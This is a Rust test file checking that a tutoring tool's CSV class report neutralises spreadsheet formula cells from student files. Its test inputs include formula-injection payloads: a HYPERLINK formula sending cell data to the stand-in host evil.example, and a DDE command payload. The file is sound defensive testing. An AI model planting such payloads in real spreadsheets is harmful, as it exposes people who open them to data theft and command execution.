//! `class report --csv` over students' files: a cell that a spreadsheet would run as a formula
//! (`= + - @`, or after a leading tab or CR) is kept as text with a leading `'`.

use hftutor::author::classroom;

fn export(lesson: &str, exercises: &[&str]) -> classroom::Export {
    let exercises: Vec<serde_json::Value> = exercises
        .iter()
        .map(|id| serde_json::json!({"id": id, "done": true, "attempts": 1, "hints_used": 0}))
        .collect();
    let json = serde_json::json!({
        "format": classroom::FORMAT, "student": "eve", "course": "T",
        "lessons": [{"id": lesson, "title": "t", "done": false,
            "exercises": exercises, "quizzes": []}]
    });
    classroom::parse_export(&json.to_string()).expect("an export")
}

#[test]
fn formula_cells_are_neutralised() {
    let hostile = [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "plain-id",
    ];
    let report = classroom::class_report(&[export("=1+1", &hostile)]).expect("report");
    let csv = report.csv();
    let lines: Vec<&str> = csv.lines().collect();
    assert_eq!(
        lines[0],
        "lesson,item,kind,done,students,mean_attempts,hints_used"
    );
    // The lesson's own line, then one per exercise.
    assert_eq!(lines[1], "'=1+1,,lesson,0,1,,");
    let items: Vec<&str> = lines[2..]
        .iter()
        .map(|l| l.strip_prefix("'=1+1,").expect("the lesson cell first"))
        .collect();
    assert_eq!(
        items,
        [
            "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\",exercise,1,1,1.00,0",
            "'+1+cmd|' /C calc'!A0,exercise,1,1,1.00,0",
            "'-2+3,exercise,1,1,1.00,0",
            "'@SUM(A1:A9),exercise,1,1,1.00,0",
            "'\t=1+1,exercise,1,1,1.00,0",
            "\"'\r=1+1\",exercise,1,1,1.00,0",
            "plain-id,exercise,1,1,1.00,0",
        ]
    );
}

#[test]
fn the_cli_csv_has_no_formula_cell_and_no_raw_control() {
    let home = tempfile::tempdir().expect("home");
    let dir = tempfile::tempdir().expect("dir");
    let file = dir.path().join("eve.json");
    let export = serde_json::to_string(&export("=HYPERLINK(\"x\")", &["@x", "ok"])).expect("json");
    std::fs::write(&file, export).expect("write");
    let out = crate::common::hftutor(
        &["class", "report", "--csv", file.to_str().expect("path")],
        home.path(),
    );
    assert!(out.status.success(), "{}", crate::common::text(&out));
    crate::common::assert_no_raw_control(&out, "class report --csv");
    let stdout = String::from_utf8_lossy(&out.stdout);
    for line in stdout.lines().skip(1) {
        let first = line.trim_start_matches('"');
        assert!(
            !first.starts_with(['=', '+', '-', '@']),
            "a formula cell: {line}"
        );
    }
    assert!(stdout.contains("'@x"), "{stdout}");
}
